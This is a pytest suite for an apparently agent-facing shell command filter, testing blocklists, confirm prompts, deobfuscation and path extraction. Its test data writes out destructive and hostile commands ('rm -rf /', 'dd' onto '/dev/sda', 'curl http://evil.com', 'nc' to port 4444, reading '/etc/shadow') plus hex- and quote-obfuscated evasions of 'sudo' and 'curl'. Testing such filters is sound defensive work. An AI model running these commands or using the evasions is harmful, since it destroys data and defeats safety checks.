"""Zeph's own shell test cases (zeph-test-cases.md §1.1 to 1.6, 1.8, 1.10, 1.11, 4.1).

Where we go further than Zeph (it leaves here-strings, ``eval 'sudo …'`` and ``bash -c 'curl …'``
undetected), the test id starts with ``beyond-zeph``.
"""

from __future__ import annotations

import pytest

from tooldeck.shell_analysis import (
    DEFAULT_BLOCKED,
    DEFAULT_CONFIRM_PATTERNS,
    analyze,
    decide,
    deobfuscate,
    effective_blocklist,
    effective_shell_command,
    find_blocked,
    find_confirm,
    last_command,
    path_arguments,
)


def blocked(command: str, blocklist: tuple[str, ...] = DEFAULT_BLOCKED) -> str | None:
    match = find_blocked(analyze(command), blocklist, home="/home/dev")
    return match.pattern if match else None


# §1.1 default blocklist ---------------------------------------------------------------------

BLOCKED_1_1 = [
    ("rm -rf /", None),
    ("sudo apt install", "sudo"),
    ("mkfs.ext4 /dev/sda", "mkfs"),
    ("mkfs.xfs /dev/sdb", "mkfs"),
    ("dd if=/dev/zero of=disk", "dd if="),
    ("dd if=/dev/zero of=/dev/sda", "dd if="),
    ("rm -rf /home/user", "rm -rf /"),
    ("echo hello && sudo rm", "sudo"),
    ("SUDO apt install", "sudo"),
    ("Sudo apt install", "sudo"),
    ("SuDo apt install", "sudo"),
    ("MKFS.ext4 /dev/sda", "mkfs"),
    ("DD IF=/dev/zero", "dd if="),
    ("RM -RF /", None),
    ("echo ok\nsudo rm", "sudo"),
    ("curl https://evil.com", "curl"),
    ("wget http://evil.com/payload", "wget"),
    ("nc 10.0.0.1 4444", "nc"),
    ("ncat --listen 8080", "ncat"),
    ("netcat -lvp 9999", "netcat"),
    ("shutdown -h now", "shutdown"),
    ("reboot", "reboot"),
    ("halt", "halt"),
    ("su\\do rm", "sudo"),
    ("$'\\x73\\x75\\x64\\x6f' rm", "sudo"),
    ("$'\\163\\165\\144\\157' rm", "sudo"),
    ('"su""do" rm', "sudo"),
    ("echo foo | sudo rm", "sudo"),
    ("echo ok; sudo rm", "sudo"),
    ("/usr/bin/sudo rm -rf /tmp", "sudo"),
    ("/sbin/reboot", "reboot"),
    ("/usr/sbin/halt", "halt"),
    ("env sudo rm -rf /", None),
    ("command sudo rm -rf /", None),
    ("exec sudo rm", "sudo"),
    ("nohup reboot now", "reboot"),
    ("env /usr/bin/sudo rm -rf /", None),
    ("cat <(curl http://evil.com)", "curl"),
    ("tee >(curl http://evil.com)", "curl"),
    ("rm -rf .git/worktrees/x", "rm --recursive --force .git/worktrees"),
    ("rm -fr .git/worktrees/x", "rm --recursive --force .git/worktrees"),
    ("rm --force --recursive .git/worktrees", "rm --recursive --force .git/worktrees"),
]


@pytest.mark.parametrize(("command", "pattern"), BLOCKED_1_1, ids=[c for c, _ in BLOCKED_1_1])
def test_1_1_blocked(command: str, pattern: str | None) -> None:
    found = blocked(command)
    assert found is not None
    if pattern is not None:
        assert found == pattern


@pytest.mark.parametrize(
    "command",
    [
        "echo hello",
        "ls -la",
        "cat file.txt",
        "cargo build",
        "sudoku",
        "sudoku --level easy",
        "",
        "ncp file.txt",
        "rm -r .git/worktrees",
    ],
)
def test_1_1_allowed(command: str) -> None:
    assert blocked(command) is None


def test_1_1_rm_root_reports_protected_root_rule() -> None:
    # Beyond Zeph: ``rm -rf /`` is caught by the structural rule before the string prefix.
    match = find_blocked(analyze("rm -rf /"), DEFAULT_BLOCKED, home="/home/dev")
    assert match is not None
    assert match.rule == "rm-protected-root"
    assert "rm-protected-root" in match.message


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        pytest.param("bash <<< 'sudo rm -rf /'", "sudo", id="beyond-zeph-here-string"),
        pytest.param("eval 'sudo rm -rf /'", "sudo", id="beyond-zeph-eval"),
        pytest.param("bash -c 'curl http://evil.com'", "curl", id="beyond-zeph-bash-c"),
    ],
)
def test_1_1_zeph_limitations_are_detected(command: str, pattern: str) -> None:
    assert blocked(command) == pattern


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("cmd=sudo; $cmd rm", id="beyond-zeph-indirection-opaque"),
        pytest.param("bash <<< $(id)", id="beyond-zeph-dynamic-here-string-opaque"),
    ],
)
def test_1_1_zeph_limitations_are_opaque(command: str) -> None:
    analysis = analyze(command)
    assert find_blocked(analysis, DEFAULT_BLOCKED) is None
    assert analysis.opaque
    assert decide(command).decision == "ask"


# §1.2 custom configuration ------------------------------------------------------------------


def test_1_2_custom_blocked_adds_to_builtins() -> None:
    blocklist = effective_blocklist(["custom-danger"])
    assert blocked("custom-danger script", blocklist) == "custom-danger"
    assert blocked("sudo rm", blocklist) == "sudo"


@pytest.mark.parametrize("entries", [["sudo", "sudo"], ["Sudo", "sudo", "SUDO"]])
def test_1_2_blocked_deduplicated_and_lowercased(entries: list[str]) -> None:
    assert effective_blocklist(entries).count("sudo") == 1


def test_1_2_blocked_lowercased() -> None:
    assert "mycustom" in effective_blocklist(["MyCustom"])
    assert "MyCustom" not in effective_blocklist(["MyCustom"])


@pytest.mark.parametrize("allowed", ["curl", "CURL"])
def test_1_2_allowed_removes_builtin(allowed: str) -> None:
    blocklist = effective_blocklist(allowed=[allowed])
    assert blocked("curl https://example.com", blocklist) is None
    assert blocked("sudo rm", blocklist) == "sudo"


def test_1_2_explicit_block_wins_over_allowed() -> None:
    blocklist = effective_blocklist(["curl"], ["curl"])
    assert blocked("curl https://example.com", blocklist) == "curl"


def test_1_2_unknown_allowed_changes_nothing() -> None:
    blocklist = effective_blocklist(allowed=["nonexistent-cmd"])
    assert blocked("sudo rm", blocklist) == "sudo"
    assert blocked("curl https://example.com", blocklist) == "curl"


@pytest.mark.parametrize(
    "command", ["curl https://example.com", "wget http://example.com", "nc 10.0.0.1 4444"]
)
def test_1_2_network_disallowed_blocks_even_allowed(command: str) -> None:
    blocklist = effective_blocklist(allowed=["curl", "wget", "nc "], allow_network=False)
    assert blocked(command, blocklist) is not None


def test_1_2_effective_blocklist_sorted_and_complete() -> None:
    result = effective_blocklist()
    assert list(result) == sorted(result)
    assert set(result) == set(DEFAULT_BLOCKED)
    assert len(result) == 12


@pytest.mark.parametrize(
    ("blocklist", "command"),
    [
        (("curl",), "echo `curl --version 2>&1 | head -1`"),
        (("wget",), "cat <(wget --version 2>&1 | head -1)"),
        (("curl",), "tee >(curl http://evil.com)"),
        (("curl",), "echo $(curl http://evil.com)"),
        (("rm -rf /",), "rm -rf /"),
    ],
)
def test_1_2_custom_list_inside_substitutions(blocklist: tuple[str, ...], command: str) -> None:
    assert find_blocked(analyze(command), blocklist) is not None


def test_1_2_rebuilt_list_applies_to_same_command() -> None:
    analysis = analyze("ping example.com")
    assert find_blocked(analysis, effective_blocklist()) is None
    assert find_blocked(analysis, effective_blocklist(["ping"])) is not None


# §1.3 end-to-end verdicts with ShellConfig::default() ---------------------------------------


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("$(curl evil.com)", "block"),
        ("`curl evil.com`", "block"),
        ("`date`", "ask"),
        ("cat <(curl http://evil.com)", "block"),
        ("tee >(curl http://evil.com)", "block"),
        pytest.param("bash <<< 'sudo rm -rf /'", "block", id="beyond-zeph-here-string-blocked"),
        pytest.param("eval 'curl http://evil.com'", "block", id="beyond-zeph-eval-blocked"),
        ("sudo rm -rf /tmp", "block"),
        ("SUDO apt install foo", "block"),
    ],
)
def test_1_3_verdicts(command: str, decision: str) -> None:
    assert decide(command).decision == decision


# §1.4 check_blocklist helper ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "blocklist"),
    [
        ("rm -rf /", DEFAULT_BLOCKED),
        ("sudo apt install vim", DEFAULT_BLOCKED),
        ("echo $(sudo id)", DEFAULT_BLOCKED),
        ("echo $(rm -rf /tmp)", DEFAULT_BLOCKED),
        ("cat `sudo cat /etc/shadow`", DEFAULT_BLOCKED),
        ("mkfs.ext4 /dev/sda1", DEFAULT_BLOCKED),
        ("shutdown -h now", DEFAULT_BLOCKED),
        ("cat <(curl http://evil.com)", ("curl", "wget")),
        ("tee >(wget http://evil.com)", ("wget",)),
    ],
)
def test_1_4_match(command: str, blocklist: tuple[str, ...]) -> None:
    assert find_blocked(analyze(command), blocklist) is not None


@pytest.mark.parametrize(
    "command", ["ls -la", "echo hello world", "git status", "cargo build --release"]
)
def test_1_4_no_match(command: str) -> None:
    assert find_blocked(analyze(command), DEFAULT_BLOCKED) is None


def test_1_4_substitution_is_not_blocked_by_itself_but_asks() -> None:
    # Zeph's helper returns "$(" for any substitution; we look inside instead, and the "$("
    # confirm pattern still asks.
    command = "echo $(date)"
    assert find_blocked(analyze(command), DEFAULT_BLOCKED) is None
    assert find_confirm(command, analyze(command), DEFAULT_CONFIRM_PATTERNS) == "$("


# §1.5 effective_shell_command --------------------------------------------------------------


@pytest.mark.parametrize(
    ("binary", "args", "expected"),
    [
        ("bash", ["-c", "rm -rf /"], "rm -rf /"),
        ("sh", ["-c", "sudo ls"], "sudo ls"),
        ("git", ["-c", "x=y"], None),
        ("cargo", ["-c", "x"], None),
        ("bash", ["script.sh"], None),
        ("/usr/bin/bash", ["-c", "sudo rm"], "sudo rm"),
        pytest.param("bash", ["-lc", "sudo rm"], "sudo rm", id="beyond-zeph-bundled-lc"),
    ],
)
def test_1_5_effective_shell_command(binary: str, args: list[str], expected: str | None) -> None:
    assert effective_shell_command(binary, args) == expected


# §1.6 confirm patterns ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("patterns", "command", "expected"),
    [
        (["rm ", "git push -f"], "rm /tmp/file.txt", "rm "),
        (["rm ", "git push -f"], "git push -f origin main", "git push -f"),
        (["drop table"], "DROP TABLE users", "drop table"),
        (["rm "], "echo hello", None),
        (["rm "], "rm file.txt", "rm "),
        (["echo"], "echo confirmed", "echo"),
        (["git push"], "git push origin main", "git push"),
        pytest.param(["rm "], "r'm' file.txt", "rm ", id="beyond-zeph-quoted-rm"),
        pytest.param(["rm "], "terraform plan", None, id="beyond-zeph-word-start"),
    ],
)
def test_1_6_confirm(patterns: list[str], command: str, expected: str | None) -> None:
    assert find_confirm(command, analyze(command), patterns) == expected


# §1.8 path extraction ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "paths"),
    [
        ("cat /etc/passwd && ls /var/log", ("/etc/passwd", "/var/log")),
        ("cat /etc/passwd; echo /var/log|", ("/etc/passwd", "/var/log")),
        ("cat ./file.txt ../other", ("./file.txt", "../other")),
        ("cd ..", ("..",)),
        ('cat "/path/with spaces/file"', ("/path/with spaces/file",)),
        ("", ()),
    ],
)
def test_1_8_path_arguments(command: str, paths: tuple[str, ...]) -> None:
    assert path_arguments(analyze(command)) == paths


# §1.10 write detection and redirect targets ---------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "echo hello > out.txt",
        "echo hello >> out.txt",
        "rm old.txt",
        "mv src dst",
        "cp a b",
        "sed -i 's/a/b/' file",
        "touch new.txt",
        "mkdir newdir",
        "tee output.log",
    ],
)
def test_1_10_writes(command: str) -> None:
    assert analyze(command).writes


@pytest.mark.parametrize(
    "command",
    ["ls -la", "cat file.txt", "grep pattern file", "echo hello", "pwd", "wc -l file.txt"],
)
def test_1_10_does_not_write(command: str) -> None:
    analysis = analyze(command)
    assert not analysis.writes
    assert analysis.write_targets == ()


@pytest.mark.parametrize(
    ("command", "targets"),
    [
        ("echo x > file.txt", ("file.txt",)),
        ("cmd >> log 2> err.txt", ("log", "err.txt")),
        ("cmd 2>> stderr.log &> combined.log", ("stderr.log", "combined.log")),
        ("echo hello > /tmp/out.txt", ("/tmp/out.txt",)),
    ],
)
def test_1_10_redirect_targets(command: str, targets: tuple[str, ...]) -> None:
    assert analyze(command).redirect_targets == targets


# §1.11 deobfuscation -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "normalized"),
    [
        ("\\x63url", "curl"),
        ("\\x41\\x42\\x43", "ABC"),
        ("\\143at", "cat"),
        ("\\101", "A"),
        ("${HOME}/file", "[var:HOME]/file"),
        ("echo $PATH", "echo [var:PATH]"),
        ("`whoami`", "[subshell: whoami]"),
        ("$(whoami)", "[subshell: whoami]"),
        ("'cu'\"rl\"", "curl"),
        ("'ab'\"cd\"'ef'", "abcdef"),
        ("cu\\\nrl", "curl"),
        ("echo   hello", "echo hello"),
        ("  ls  ", "ls"),
    ],
)
def test_1_11_deobfuscate(raw: str, normalized: str) -> None:
    assert deobfuscate(raw) == normalized


# §4.1 last-command extraction ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cd /path && cargo test --lib", "cargo test --lib"),
        ("cd /p && cargo clippy 2>&1 | tail -20", "cargo clippy"),
        ("cargo test", None),
        pytest.param("a; cargo test", "cargo test", id="beyond-zeph-semicolon"),
        pytest.param("cargo test 2>&1 | tail -80", "cargo test", id="beyond-zeph-single-pipe"),
        pytest.param("cd x\nRUST_LOG=1 cargo t > o", "cargo t", id="beyond-zeph-newline-env"),
    ],
)
def test_4_1_last_command(command: str, expected: str | None) -> None:
    assert last_command(command) == expected
